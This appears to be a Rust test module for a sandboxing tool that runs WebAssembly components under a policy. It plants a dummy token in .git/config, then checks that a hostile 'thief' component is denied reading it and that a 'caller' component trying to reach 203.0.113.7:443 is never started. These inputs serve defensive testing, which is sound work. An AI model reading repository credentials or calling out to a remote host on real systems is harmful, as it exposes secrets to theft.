//! Components that steal, run for real: hostile components of the tests, under a policy that allows little. It shows how
//! each is refused, and fails if what they are after stands in anything they leave.

use super::receipts;
use super::stage::{Stage, ends, well};
use anyhow::{Context as _, Result, ensure};
use lockstep_model::digest::Digest;
use std::fs;

/// The hostile components: one that reads whatever it is told, one that calls home.
pub(super) const COMPONENTS: [&str; 2] = ["reach", "sockets"];
/// The credential that a checkout leaves in the repository's own data.
const TOKEN: &str = "dG9rZW4tb2YtdGhlLWpvYg==";

/// What allows both to read manifests and nothing else.
const RIGHTS: &str = "    allow: {workspace: [\"read envs/**\"]}\n";

/// Tells it.
pub(super) fn tell(stage: &mut Stage) -> Result<()> {
    stage.say(
        "6. A thief. The checkout of a job holds a token, and a component from elsewhere wants it. It is one that the\n\
         tests attack with: it reads whatever it is told to. Without a policy none from outside is run.",
    );
    let token = format!("AUTHORIZATION: basic {TOKEN}");
    stage.git(&["config", "http.https://git.example.com/.extraheader", &token], well(&[]))?;
    let planted = stage.shown().len();
    let policy = bring(stage)?;
    let reads = ["../thief.wasm", "--act", "read", "--words"];
    let refused = "error: a component that is not built in runs only under a policy";
    stage.lockstep(&[&reads[..], &[".git/config"]].concat(), ends(3, &[refused]))?;
    stage.tell("It is given one, which lets it read manifests. policy.yaml:", &policy);
    let under = ["--policy", "../policy.yaml"];
    let manifest = [&reads[..], &["envs/prod/web.yaml"], &under].concat();
    stage.lockstep(&manifest, well(&["lockstep thief.wasm: done"]))?;
    stage.say("So it runs. It reaches for the token.");
    let denied =
        "error: denied: read `.git/config`: it is the repository's own data, out of reach for every step";
    let receipt = ["--receipt", "../receipts/thief.json"];
    let steal = [&reads[..], &[".git/config"], &under, &receipt].concat();
    stage.lockstep(&steal, ends(3, &[denied]))?;
    stage.say("Another would call home. It is allowed the same, and is not even started.");
    let denied = "error: the component imports `wasi:sockets/network@0.2.6`, which the host does not offer";
    let call =
        ["../caller.wasm", "--act", "send", "--words", "203.0.113.7:443", "--policy", "../policy.yaml"];
    stage.lockstep(&call, ends(3, &[denied]))?;
    receipts::show(stage, "thief", "denied")?;
    nothing_leaked(stage, planted)
}

/// Brings the components, and the policy for them; gives its text.
fn bring(stage: &Stage) -> Result<String> {
    let mut policy = "version: 1\ncomponents:\n".to_owned();
    for (component, name) in COMPONENTS.into_iter().zip(["thief.wasm", "caller.wasm"]) {
        let from = stage.programs().hostile.join(format!("{component}.wasm"));
        let wasm = fs::read(&from).with_context(|| from.display().to_string())?;
        policy.push_str(&format!("  - digest: {} # {name}\n{RIGHTS}", Digest::of(&wasm)));
        fs::write(stage.path(name), wasm)?;
    }
    fs::write(stage.path("policy.yaml"), &policy)?;
    Ok(policy)
}

/// Fails if the token stands in what was shown since, or in the receipt.
fn nothing_leaked(stage: &Stage, since: usize) -> Result<()> {
    let leak = stage.shown().iter().skip(since).find(|shown| shown.output.contains(TOKEN));
    ensure!(leak.is_none(), "the token was shown: {leak:?}");
    let receipt = fs::read_to_string(stage.path("receipts/thief.json"))?;
    ensure!(!receipt.contains(TOKEN), "the token stands in the receipt of the thief");
    Ok(())
}
